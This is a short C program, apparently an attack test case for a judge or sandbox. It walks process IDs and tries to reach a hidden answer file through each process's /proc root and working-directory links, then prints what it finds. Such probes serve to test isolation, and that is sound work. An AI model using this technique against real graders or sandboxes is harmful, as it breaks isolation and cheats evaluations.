/* Goes to the answer through the root and the working directory of every process. */
#include "attack.h"

int main(void)
{
    char path[2048];
    for (int pid = 1; pid < 3000; pid++) {
        snprintf(path, sizeof path, "/proc/%d/root%s", pid, target("answer"));
        show(path);
        snprintf(path, sizeof path, "/proc/%d/cwd/../answers/1.ans", pid);
        show(path);
    }
    return 0;
}
